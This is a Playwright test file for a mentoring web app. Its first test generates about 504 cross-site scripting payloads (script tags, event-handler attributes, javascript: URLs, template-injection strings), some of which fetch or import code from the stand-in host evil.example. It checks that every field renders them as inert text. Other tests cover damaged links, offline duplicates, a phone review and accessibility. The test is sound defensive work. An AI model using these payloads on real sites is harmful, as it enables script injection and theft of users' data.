import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { linkTo } from '#platform/packet-links.ts';
import { accepted, assigned, commented, idOf, reviewed, say, story, submitted } from '#test/domain/mentoring/events.ts';
import { exercise } from '#test/domain/mentoring/exercise.ts';
import { faultsOf } from './axe.ts';
import { asFile, bring, go, packet, rate, rowsOf } from './mentoring.ts';
import { openSite, type Site } from './visit.ts';

let site: Site;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.close());

/** 504 ways to write markup that runs a script where it is taken for markup. */
const payloads = [
  'alert(1)',
  'document.title="x"',
  'fetch("//evil.example")',
  'top[`al`+`ert`](1)',
  'location="javascript:1"',
  'import("//evil.example/x.js")',
];
const shapes = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror='${js}'>`,
  (js: string) => `<svg onload='${js}'>`,
  (js: string) => `<svg><animate onbegin='${js}' attributeName=x dur=1s>`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
  (js: string) => `<a href='javascript:${js}'>x</a>`,
  (js: string) => `<details open ontoggle='${js}'>`,
  (js: string) => `<input autofocus onfocus='${js}'>`,
  (js: string) => `<math><mi xlink:href='javascript:${js}'>`,
  (js: string) => `<style>@import 'javascript:${js}';</style>`,
  (js: string) => `<template><script>${js}</script></template>`,
  (js: string) => `<form action='javascript:${js}'><button>x`,
  (js: string) => `<object data='data:text/html,<script>${js}</script>'>`,
  (js: string) => `\${${js}}{{${js}}}<%=${js}%>`,
];
const escapes = ['', '"', "'", '">', "'>", '</textarea>'].flatMap((before) =>
  shapes.flatMap((shape) => payloads.map((js) => before + shape(js))),
);

describe('markup in what was sent', () => {
  it(`is text in every field, in ${escapes.length} ways`, async () => {
    expect(escapes.length).toBeGreaterThanOrEqual(500);
    const { context, open, wrong } = await site.visit();
    let dialogs = 0;
    const half = escapes.slice(0, 260).join('\n').slice(0, 20_000);
    const rest = escapes.slice(260).join('\n').slice(0, 20_000);
    const [short, long] = [escapes[9] ?? '', escapes.slice(0, 60).join('\n').slice(0, 3900)];
    const hostile = {
      assigned: {
        ...assigned,
        body: { ...assigned.body, mentor: short.slice(0, 80), mentee: short.slice(0, 80), note: long, lookAt: long },
      },
      first: {
        ...submitted,
        body: { ...submitted.body, title: short, text: half, note: long, files: [{ name: short, bytes: 1 }] },
      },
      remark: {
        ...commented,
        body: {
          ...commented.body,
          text: long,
          criterion: short,
          anchor: { at: short, start: 0, end: 5, quote: short },
        },
      },
      review: {
        ...reviewed,
        body: {
          ...reviewed.body,
          by: short.slice(0, 80),
          strength: long,
          essential: long,
          rows: [{ criterion: short, skill: 'execution' as const, step: 2 as const }],
        },
      },
      second: say(7, 'submit', { ...submitted.body, round: 2, text: rest, note: long }),
    };
    const names = {
      ...exercise,
      name: short,
      brief: long,
      artifact: short,
      doneWhen: [short],
      rubric: exercise.rubric.map((row) => ({ ...row, criterion: short, 1: short })),
    };
    const events = [hostile.assigned, accepted, hostile.first, hostile.remark, hostile.review, hostile.second];
    for (const path of ['/review/', '/mentor/', '/open/']) {
      const page = await go({ open }, path);
      page.on('dialog', (dialog) => {
        dialogs += 1;
        void dialog.dismiss();
      });
      const before = await page.locator('main :is(script, img, iframe, svg, style, object, template, math)').count();
      await page
        .getByLabel('Or open a file')
        .setInputFiles(
          packet(path === '/open/' ? [{ ...hostile.assigned, id: idOf(30), case: idOf(30) }] : events, [names]),
        );
      if (path === '/mentor/') {
        await page.getByRole('button', { name: 'Take it in' }).press('Enter');
        await page.getByRole('link', { name: 'To the case' }).press('Enter');
        await page.getByRole('heading', { name: 'From earlier rounds' }).waitFor();
      }
      await page.getByText('<script>alert(1)</script>').first().waitFor({ state: 'attached' });
      expect(await page.locator('main :is(script, img, iframe, svg, style, object, template, math)').count()).toBe(
        before,
      );
    }
    expect(dialogs).toBe(0);
    expect(wrong).toEqual([]);
    await context.close();
  });
});

describe('a damaged link', () => {
  it('changes nothing and says so, in 100 ways, and leaves the address at once', async () => {
    const { context, open, page, wrong } = await site.visit();
    const link = (await linkTo(`${site.url}/open/`, [assigned])) ?? '';
    const { hash } = new URL(link);
    const opened = await go({ open }, '/open/');
    const before = await rowsOf(page);
    for (let turn = 0; turn < 100; turn += 1) {
      const at = 4 + ((turn * 97) % (hash.length - 4));
      const damaged = [
        hash.slice(0, at),
        `${hash.slice(0, at)}${hash[at] === 'A' ? 'B' : 'A'}${hash.slice(at + 1)}`,
        hash.replace('p1.', `p${turn + 2}.`),
        `${hash}${'A'.repeat(turn * 90)}`,
      ][turn % 4];
      await opened.evaluate((to) => {
        location.hash = to;
      }, damaged ?? '');
      await opened.locator('[role=alert], article').first().waitFor();
      expect(new URL(opened.url()).hash).toBe('');
    }
    expect(await rowsOf(page)).toEqual(before);
    expect(wrong).toEqual([]);
    await context.close();
  });
});

describe('an assignment', () => {
  it('opened twice, in two tabs and offline, is in the plan once', async () => {
    const { context, open, page, wrong } = await site.visit();
    const [one, two] = [await go({ open }, '/open/'), await go({ open }, '/open/')];
    await context.setOffline(true);
    for (const tab of [one, two]) {
      await tab.getByLabel('Or open a file').setInputFiles(packet([assigned], [exercise]));
      await tab.getByRole('button', { name: 'Accept into my plan' }).waitFor();
    }
    await Promise.all([one, two].map((tab) => tab.getByRole('button', { name: 'Accept into my plan' }).press('Enter')));
    for (const tab of [one, two]) await tab.getByText('In your plan.').waitFor();
    await one.getByLabel('Or open a file').setInputFiles([]);
    await one.getByLabel('Or open a file').setInputFiles(packet([assigned], [exercise]));
    await one.getByText('In your plan.').waitFor();
    const rows = await rowsOf(page);
    expect(rows.filter(({ kind }) => kind === 'promises')).toHaveLength(1);
    expect(rows.filter(({ kind }) => kind === 'mentorEvents')).toHaveLength(2);
    expect(wrong).toEqual([]);
    await context.close();
  });
});

describe('a ten-minute review', () => {
  it('goes by plain text from a phone without set-up into the ledger, once', async () => {
    const mentee = await site.visit();
    const phone = await site.visit({ viewport: { width: 360, height: 780 }, isMobile: true, hasTouch: true });
    const feedback = await go(mentee, '/open/');
    await feedback.getByLabel('Or open a file').setInputFiles(packet([assigned], [exercise]));
    await feedback.getByRole('button', { name: 'Accept into my plan' }).press('Enter');
    await feedback.getByText('In your plan.').waitFor();
    const mine = await go(mentee, '/feedback/');
    await mine.getByRole('button', { name: 'Hand in' }).press('Enter');
    await mine.getByLabel('Text', { exact: true }).fill('Seven edges, two without an owner.');
    await rate(mine, [3, 3, 3, 1]);
    await mine.getByRole('button', { name: 'Look at what goes along' }).press('Enter');
    await mine.getByRole('button', { name: 'Hand it in' }).press('Enter');
    const [download] = await Promise.all([
      mine.waitForEvent('download'),
      mine.getByRole('button', { name: 'Save as a file' }).press('Enter'),
    ]);

    const review = await go(phone, '/review/');
    await review.getByLabel('Or open a file').setInputFiles(await download.path());
    await review.getByText('Seven edges, two without an owner.').waitFor();
    await rate(review, [2, 3, 4]);
    await review.getByLabel('One strength').fill('Every edge has a date.');
    await review.getByLabel('One essential point').fill('Name both owners; “the vendor” is nobody.');
    await review.getByLabel('I heard them defend it').check();
    await review.getByLabel('I stand for it', { exact: false }).check();
    // What is typed is written within half a second.
    await review.waitForTimeout(700);
    await review.reload({ waitUntil: 'networkidle' });
    await review.getByLabel('Or open a file').setInputFiles(await download.path());
    await review.getByRole('textbox', { name: 'The reply' }).waitFor();
    expect(await review.getByLabel('One strength').inputValue()).toBe('Every edge has a date.');
    const reply = await review.getByRole('textbox', { name: 'The reply' }).inputValue();

    const mail = `Sam,\n\n${reply.replaceAll('“', '"').replaceAll('”', '"').replaceAll(/^/gmu, '> ')}\n\nInes`;
    for (const time of [1, 2]) {
      await bring(mine, mail);
      if (time === 1) await mine.getByRole('button', { name: 'Take it in' }).press('Enter');
      await mine.getByText(time === 1 ? 'Taken.' : 'You have all of this already.', { exact: false }).waitFor();
    }
    const piece = (await rowsOf(mine)).find(({ kind }) => kind === 'evidence');
    expect(piece?.value['reviews']).toMatchObject([
      { by: 'Ines Abara', saw: 'defense', attests: true, skills: [{ level: 2 }, { level: 4 }] },
    ]);
    expect([...phone.wrong, ...mentee.wrong]).toEqual([]);
    await phone.context.close();
    await mentee.context.close();
  });
});

describe('a packet that is refused', () => {
  it('says why in words', async () => {
    const { context, open } = await site.visit();
    const page = await go({ open }, '/feedback/');
    const why = async () => (await page.getByRole('main').getByRole('alert').textContent()) ?? '';
    await page.getByLabel('Or open a file').setInputFiles(packet(story.slice(0, 5)));
    await page.getByRole('main').getByRole('alert').waitFor();
    expect(await why()).toContain('about work that is not yours here');
    await page.getByLabel('Or open a file').setInputFiles(asFile('['.repeat(200_000)));
    await page.getByText('nested deeper').waitFor();
    await bring(page, 'Thanks, looks good to me!');
    await page.getByText('neither a link nor a reply').waitFor();
    await context.close();
  });
});

describe('the desk with work on it', () => {
  it('passes axe in its parts, on both sides', async () => {
    const { context, open } = await site.visit({ bypassCSP: true, reducedMotion: 'reduce' });
    const desk = await go({ open }, '/mentor/');
    const second = say(7, 'submit', {
      ...submitted.body,
      round: 2,
      document: 'raid',
      text: '# RAID\n\n## Risks\n\n| ID | Event |\n| --- | --- |\n| 1 | Late |',
    });
    await desk.getByLabel('Or open a file').setInputFiles(packet([...story, second], [exercise]));
    await desk.getByRole('button', { name: 'Take it in' }).press('Enter');
    await desk.getByRole('row').nth(1).waitFor();
    expect(await faultsOf(desk, null), 'waiting').toEqual([]);
    await desk.getByRole('link', { name: 'To the case' }).press('Enter');
    await desk.getByText('What the rules find', { exact: false }).press('Enter');
    await desk.getByRole('heading', { name: 'Your review' }).waitFor();
    expect(await faultsOf(desk, null), 'case').toEqual([]);
    for (const part of ['Give work', 'Remarks', 'Calibration', 'Your key']) {
      await desk.getByRole('link', { name: part }).first().press('Enter');
      await desk.getByRole('heading', { level: 2 }).first().waitFor();
      expect(await faultsOf(desk, null), part).toEqual([]);
    }
    await context.close();
  });
});
